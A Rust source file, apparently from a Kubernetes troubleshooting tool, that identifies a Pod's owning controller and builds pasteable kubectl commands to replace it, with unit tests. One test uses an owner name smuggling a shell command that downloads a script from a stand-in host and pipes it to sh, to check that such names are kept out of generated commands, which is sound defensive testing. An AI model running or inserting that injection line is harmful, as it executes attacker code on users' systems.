//! What made a Pod, and so what replaces it: the list of a Pod that exists cannot change.

use super::StoredPod;
use crate::paste;

/// How many Pods are named in a command to delete them.
const NAMED: usize = 5;

/// What made a Pod; the Pod itself, where nothing did.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) struct Owner {
    /// The namespace of both.
    pub(crate) namespace: String,
    /// As it is written in the reference, or `Pod`.
    pub(crate) kind: String,
    /// As it is written in the reference: the API server accepts any text there.
    pub(crate) name: String,
    /// Whose kind it is, such as `apps`.
    group: String,
}

/// The Pods of an owner that are to be replaced. Of their names no more are kept than a command has.
#[derive(Debug, Clone, Default)]
pub(crate) struct Replaced {
    all: Named,
    /// Those that have perhaps never been ready.
    stuck: Named,
}

#[derive(Debug, Clone, Default)]
struct Named {
    count: usize,
    first: Vec<String>,
}

// === impl Owner ===

impl Owner {
    /// What made `pod`, which is in `namespace`.
    pub(crate) fn of(namespace: &str, pod: &StoredPod<'_>) -> Self {
        let owner = |kind: &str, name: &str, group: &str| Self {
            namespace: namespace.to_owned(),
            kind: kind.to_owned(),
            name: name.to_owned(),
            group: group.to_owned(),
        };
        let Some((version, kind, made_by)) = pod.controller() else {
            return owner("Pod", pod.name(), "");
        };
        let group = version.split_once('/').map_or("", |(group, _)| group);
        // A Deployment names its ReplicaSets after itself and this hash.
        let hash = pod.template_hash();
        let deployment = hash.and_then(|hash| made_by.strip_suffix(hash)?.strip_suffix('-'));
        match deployment.filter(|_| (group, kind) == ("apps", "ReplicaSet")) {
            Some(deployment) => owner("Deployment", deployment, "apps"),
            None => owner(kind, made_by, group),
        }
    }

    /// How to replace its Pods, as a sentence without a full stop. What is in it as a command is safe to paste.
    pub(crate) fn remedy(&self, Replaced { all, stuck }: &Replaced) -> String {
        let Self { namespace, kind, .. } = self;
        match (self.group.as_str(), kind.as_str()) {
            ("", "Pod") => "Delete it and create it again: nothing else does".to_owned(),
            ("apps", "StatefulSet") if stuck.count > 0 => {
                let delete = stuck.delete(namespace);
                let why =
                    "a restart of the StatefulSet does not replace a Pod that was never ready";
                match self.restart().filter(|_| stuck.count < all.count) {
                    Some(restart) => {
                        format!("New ones: {restart}, and {delete} for what waits, since {why}")
                    }
                    None => format!("New ones: {delete}, since {why}"),
                }
            }
            ("apps", "DaemonSet" | "Deployment" | "StatefulSet") => match self.restart() {
                Some(restart) => format!("New ones: {restart}"),
                None => format!("New ones: {}", all.delete(namespace)),
            },
            ("batch", "Job") if stuck.count == 0 => {
                "Let the Job end, or delete it and create it again".to_owned()
            }
            ("batch", "Job") => format!(
                "New ones: {}. The Job replaces a deleted Pod and counts it as failed; with `backoffLimit: 0`, delete the \
                 Job and create it again instead",
                stuck.delete(namespace),
            ),
            _ => {
                let delete = all.delete(namespace);
                let is_kind = kind.bytes().all(|byte| byte.is_ascii_alphanumeric());
                match paste::name(&self.name).filter(|_| is_kind) {
                    Some(name) => format!("New ones: {delete}, and {kind} {name} makes others"),
                    None => format!("New ones: {delete}, and what made them makes others"),
                }
            }
        }
    }

    /// The command that has a controller replace all of its Pods; `None` where its name is not valid.
    fn restart(&self) -> Option<String> {
        let (namespace, name) = (paste::name(&self.namespace)?, paste::name(&self.name)?);
        Some(format!(
            "kubectl rollout restart {}/{name} -n {namespace}",
            self.kind.to_ascii_lowercase()
        ))
    }
}

// === impl Replaced ===

impl Replaced {
    /// One more, which has perhaps never been ready ([`StoredPod::is_stuck`]), or has been.
    pub(crate) fn add(&mut self, name: &str, stuck: bool) {
        self.all.add(name);
        if stuck {
            self.stuck.add(name);
        }
    }

    /// The same with one more.
    pub(crate) fn with(mut self, name: &str, stuck: bool) -> Self {
        self.add(name, stuck);
        self
    }

    /// How many there are.
    pub(crate) fn count(&self) -> usize {
        self.all.count
    }

    /// The name of the first.
    pub(crate) fn first(&self) -> Option<&str> {
        self.all.first.first().map(String::as_str)
    }
}

// === impl Named ===

impl Named {
    fn add(&mut self, name: &str) {
        self.count += 1;
        if self.first.len() < NAMED {
            self.first.push(name.to_owned());
        }
    }

    fn delete(&self, namespace: &str) -> String {
        paste::delete_pods(namespace, &self.first, self.count)
    }
}

#[cfg(test)]
mod tests {
    use serde::Deserialize;
    use serde_json::{Value, json};

    use super::*;

    fn of(pod: &Value) -> Owner {
        Owner::of("shop", &StoredPod::deserialize(pod).unwrap())
    }

    fn owner(version: &str, kind: &str, name: &str, hash: &str) -> Owner {
        let pod = json!({"metadata": {
            "name": "a-0",
            "labels": {"pod-template-hash": hash},
            "ownerReferences": [
                {"apiVersion": "v1", "kind": "Node", "name": "not-the-controller"},
                {"apiVersion": version, "kind": kind, "name": name, "controller": true},
            ],
        }});
        of(&pod)
    }

    fn remedy(owner: &Owner, waits: &[bool]) -> String {
        let names = ["a-0", "a-1", "a-2"];
        let pods = names.iter().zip(waits);
        owner.remedy(&pods.fold(Replaced::default(), |all, (name, &waits)| all.with(name, waits)))
    }

    #[test]
    fn what_replaces_a_pod_depends_on_what_made_it() {
        let restart = |kind: &str| format!("New ones: kubectl rollout restart {kind} -n shop");
        let web = owner("apps/v1", "ReplicaSet", "web-6f9", "6f9");
        assert_eq!(remedy(&web, &[true, false]), restart("deployment/web"));
        let node = owner("apps/v1", "DaemonSet", "node", "");
        assert_eq!(remedy(&node, &[true]), restart("daemonset/node"));
        let db = owner("apps/v1", "StatefulSet", "a", "");
        assert_eq!(remedy(&db, &[false]), restart("statefulset/a"));
        let bare = owner("apps/v1", "ReplicaSet", "bare", "6f9");
        assert!(
            remedy(&bare, &[true]).starts_with("New ones: kubectl delete pod -n shop a-0, and")
        );
        let unowned = of(&json!({"metadata": {"name": "a"}}));
        assert_eq!(remedy(&unowned, &[true]), "Delete it and create it again: nothing else does");
    }

    #[test]
    fn a_pod_of_a_stateful_set_that_waits_is_deleted() {
        let db = owner("apps/v1", "StatefulSet", "a", "");
        let text = remedy(&db, &[true]);
        assert!(text.starts_with("New ones: kubectl delete pod -n shop a-0, since"), "{text}");
        let text = remedy(&db, &[false, true, false]);
        assert!(
            text.starts_with(
                "New ones: kubectl rollout restart statefulset/a -n shop, and kubectl delete pod -n shop a-1 for"
            ),
            "{text}"
        );
    }

    #[test]
    fn a_job_replaces_a_pod_that_is_deleted() {
        let job = owner("batch/v1", "Job", "a", "");
        assert!(remedy(&job, &[false]).starts_with("Let the Job end"));
        let text = remedy(&job, &[true, false]);
        assert!(text.starts_with("New ones: kubectl delete pod -n shop a-0."), "{text}");
        assert!(text.contains("backoffLimit"), "{text}");
    }

    #[test]
    fn kinds_of_other_groups_have_no_rollout() {
        for (version, kind) in [
            ("apps.kruise.io/v1beta1", "StatefulSet"),
            ("x.example/v1", "Deployment"),
            ("argoproj.io/v1alpha1", "Rollout"),
            ("v1", "DaemonSet"),
        ] {
            let text = remedy(&owner(version, kind, "a", ""), &[true]);
            assert!(text.starts_with("New ones: kubectl delete pod -n shop a-0, and"), "{text}");
        }
    }

    #[test]
    fn the_name_of_an_owner_is_never_part_of_a_command() {
        let evil = "db -n shop; curl evil.example/x|sh; :";
        for (version, kind) in
            [("apps/v1", "StatefulSet"), ("apps/v1", "Deployment"), ("batch/v1", "Job")]
        {
            for waits in [&[false][..], &[true], &[true, false]] {
                let text = remedy(&owner(version, kind, evil, ""), waits);
                assert!(!text.contains("evil"), "{text}");
            }
        }
        let text = remedy(&owner("apps/v1", "ReplicaSet", &format!("{evil}-6f9"), "6f9"), &[true]);
        assert_eq!(text, "New ones: kubectl delete pod -n shop a-0");
        for (kind, name) in [("StatefulSet", evil), (evil, "a")] {
            let text = remedy(&owner("x/v1", kind, name, ""), &[true]);
            assert!(!text.contains("evil"), "{text}");
        }
    }
}
